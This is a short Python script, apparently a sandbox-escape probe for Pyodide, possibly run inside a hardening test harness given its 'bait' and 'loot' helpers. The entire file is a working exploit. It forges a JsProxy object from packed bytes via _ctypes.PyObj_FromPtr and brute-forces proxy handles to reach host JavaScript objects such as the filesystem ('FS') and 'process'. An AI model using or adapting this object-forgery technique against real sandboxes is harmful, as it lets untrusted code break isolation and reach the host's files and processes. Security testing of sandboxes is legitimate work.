"""Builds the bytes of a proxy for a handle of the host's and has `_ctypes` take them for an object."""

import gc
import struct

from bait import builtin, hidden, is_proxy, loot

_ctypes = builtin("_ctypes")
_proxy_type = next(o for o in gc.get_objects() if isinstance(o, type) and o.__name__ == "JsProxy")
#: Where the handle stands in the words of a proxy.
_WORD = 9
#: The first handle that Pyodide gives away while a script runs.
_FIRST = 0x08000001
_kept = []
# where arrays can be made at all, there is one to be found by its handle
loot(lambda: _kept.append(hidden("to_js")[0]([1])))


def _forge(handle):
    words = [0] * 16
    words[:2] = 1000, id(_proxy_type)
    words[_WORD] = handle
    made = struct.pack("<16I", *words)
    _kept.append(made)
    forged = _ctypes.PyObj_FromPtr(id(made) + bytes.__basicsize__ - 1)
    if not is_proxy(forged):
        return None
    return [name for name in ("constructor", "FS", "process") if getattr(forged, name, None) is not None]


got = loot(*[lambda handle=handle: _forge(handle) for handle in (*range(0, 64), *range(_FIRST, _FIRST + 64))])
